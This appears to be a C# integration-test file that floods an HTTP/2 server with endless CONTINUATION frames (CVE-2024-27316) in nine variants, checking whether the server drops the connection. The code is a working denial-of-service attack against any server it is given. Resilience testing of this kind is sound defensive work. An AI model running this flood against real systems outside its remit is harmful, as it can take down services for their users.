using System.Diagnostics;
using System.Net.Sockets;
using System.Text;

namespace AkkaFeeds.IntegrationTests.Edge;

/// <summary>
/// HTTP/2 frame by frame: a head that goes on in CONTINUATION frames and never ends (CVE-2024-27316 and its kin).
/// </summary>
internal static class ContinuationFlood
{
    private const byte Data = 0;
    private const byte Headers = 1;
    private const byte Continuation = 9;
    private const byte EndHeaders = 4;
    private const byte EndStream = 1;
    private const int FramesMax = 50_000_000;
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);

    /// <summary>What is sent, by name; each gives whether the server ended the connection, and when.</summary>
    public static readonly
        Dictionary<string, Func<Uri, Task<(bool IsEnded, int Sent, TimeSpan Took)>>> All = new()
        {
            ["headers without end"] = http => RunAsync(http, Headers, 0, number => Header($"x-{number}", 1_000)),
            ["the same header without end"] = http => RunAsync(http, Headers, 0, _ => Header("x-a", 100)),
            ["empty frames without end"] = http => RunAsync(http, Headers, 0, _ => []),
            ["one name that never ends"] = http => RunAsync(http, Headers, 0, number => number == 0
                ? [0x00, 0x7f, 0x80, 0x80, 0x80, 0x01] : Encoding.ASCII.GetBytes(new string('a', 16_000))),
            ["the end of the stream, not of the head"] = http =>
                RunAsync(http, Headers, EndStream, number => Header($"x-{number}", 1_000)),
            ["a frame of data in a head"] = http => RunAsync(http, Headers, 0, _ => [1], Data),
            ["continuations of nothing"] = http => RunAsync(http, Headers, EndHeaders, _ => []),
            ["continuations of another stream"] = http => RunAsync(http, Headers, 0, _ => [], stream: 3),
            ["continuations of no stream"] = http => RunAsync(http, Headers, 0, _ => [], stream: 0),
        };

    private static async Task<(bool IsEnded, int Sent, TimeSpan Took)> RunAsync(
        Uri http, byte first, byte flags, Func<int, byte[]> part, byte next = Continuation, int stream = 1)
    {
        var watch = Stopwatch.StartNew();
        using var limit = new CancellationTokenSource(Patience);
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(http.Host, http.Port, limit.Token);
        var wire = client.GetStream();
        await RapidReset.BeginAsync(wire, limit.Token);
        var reading = RapidReset.EndedAsync(wire, limit.Token);
        var sent = 0;
        try
        {
            await wire.WriteAsync(RapidReset.Frame(first, flags, 1, RapidReset.Request(http)), limit.Token);
            for (; sent < FramesMax && !reading.IsCompleted; sent++)
            {
                await wire.WriteAsync(RapidReset.Frame(next, 0, stream, part(sent)), limit.Token);
            }
        }
        catch (IOException)
        {
            return (true, sent, watch.Elapsed);
        }
        catch (OperationCanceledException)
        {
            return (false, sent, watch.Elapsed);
        }

        return (await reading, sent, watch.Elapsed);
    }

    // A literal without indexing: nothing of it is kept but in the request.
    private static byte[] Header(string name, int length) =>
    [
        0x00, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), 0x7f, .. Rest(length - 127),
        .. Encoding.ASCII.GetBytes(new string('v', Math.Max(length, 127))),
    ];

    // What an integer of HPACK is beyond its first seven bits (RFC 7541, section 5.1).
    private static List<byte> Rest(int value)
    {
        var bytes = new List<byte>();
        for (value = Math.Max(value, 0); value >= 128; value >>= 7)
        {
            bytes.Add((byte)((value & 0x7f) | 0x80));
        }

        bytes.Add((byte)value);
        return bytes;
    }
}
